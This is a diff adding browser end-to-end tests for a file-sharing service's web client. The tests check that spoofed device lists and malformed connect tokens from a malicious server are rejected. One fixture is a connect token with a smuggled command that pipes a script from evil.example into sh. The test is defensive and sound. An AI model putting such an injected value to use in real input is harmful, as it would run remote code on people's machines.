@@ -522,6 +522,73 @@ await test('a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_ba
   ok(!(await page.locator('#upload').isDisabled()), 'uploads are on again');
 });
 
+// The device list is the service's word. A device it lists with this browser's own member must
+// not make the browser sign its own removal, nor a revoked one with that member leave this
+// browser out of a key rotation.
+const decoyDevice = (over) => ({
+  id: nodeCrypto.randomUUID(), member_id: S.account.member_id, name: 'decoy-box', os: 'linux', arch: 'x86_64', cli_version: '0.9.0',
+  key_storage: 'file', last_seen_at: null, revoked_at: null, rotation_pending: false, created_at: new Date().toISOString(), ...over,
+});
+const serveDevicesWith = (device) => page.route(/\/v1\/devices(\?.*)?$/, async (route) => {
+  const res = await route.fetch();
+  const body = await res.json();
+  body.data.items = [device, ...body.data.items];
+  await route.fulfill({ response: res, json: body });
+});
+
+await test('revoking_a_device_the_service_lists_with_this_browsers_member_signs_nothing', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
+  const revokes = [];
+  await page.route(/\/v1\/devices\/[^/]+\/revoke$/, (route) => { revokes.push(route.request().url()); return route.abort(); });
+  await serveDevicesWith(decoyDevice({}));
+  const statements = async () => (await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items.length;
+  try {
+    const before = await statements();
+    await page.goto(`${BASE}/devices`);
+    await page.getByRole('button', { name: 'Revoke decoy-box' }).click();
+    const alert = page.locator('main .error');
+    await alert.waitFor({ timeout: 30000 });
+    eq('no revoke was sent', revokes.length, 0);
+    eq('no roster statement added', await statements(), before);
+    ok((await alert.textContent()).includes('lists this browser\'s own member'), `the page says why: ${await alert.textContent()}`);
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+await test('a_key_rotation_never_leaves_this_browsers_member_out', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
+  await serveDevicesWith(decoyDevice({ revoked_at: new Date().toISOString(), rotation_pending: true }));
+  try {
+    const gen = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen;
+    await page.goto(`${BASE}/devices`);
+    await page.getByRole('button', { name: 'Rotate keys now' }).click();
+    for (let i = 0; i < 100 && (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen === gen; i++) await page.waitForTimeout(200);
+    const envs = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/key-envelopes?key_gen=${gen + 1}`)).json.data.items;
+    eq('the new keys are sealed to this browser\'s member still', envs.map((e) => e.member_id).join(), S.account.member_id);
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+// A connect token goes into a command the person pastes into a shell: the page shows none but
+// the service's own form ("svc_lt_" and 32 b64url characters).
+await test('the_connect_page_puts_only_a_well_formed_token_into_the_command', ['onboarding_makes_keys_kit_roster_and_first_pouch'], async () => {
+  await page.route(/\/v1\/cli-auth\/connect-tokens$/, (route) => route.fulfill({
+    status: 200, contentType: 'application/json',
+    body: JSON.stringify({ ok: true, data: { connect_token: 'svc_lt_x; curl https://evil.example/x | sh', expires_in: 600 } }),
+  }));
+  try {
+    await page.goto(`${BASE}/cli/connect`);
+    await page.getByRole('button', { name: 'Make a connect token' }).click();
+    await page.locator('main .error, #connect-command').first().waitFor();
+    eq('no command shown', await page.locator('#connect-command').count(), 0);
+    ok(await page.getByText('a connect token of another form').count() === 1, 'the page says why');
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+  await page.getByRole('button', { name: 'Make a connect token' }).click();
+  ok(/^pouch login --connect-token svc_lt_[A-Za-z0-9_-]{32}$/.test(await page.locator('#connect-command').inputValue()), 'the service\'s own token is shown');
+});
+
 // Text the service answers on the devices page (here rewritten on its way, as a malicious
 // server or a device's own choice of name could make it): control and bidi characters are shown
 // as U+FFFD, and every such text sits in its own <bdi>, so a right-to-left name cannot reorder
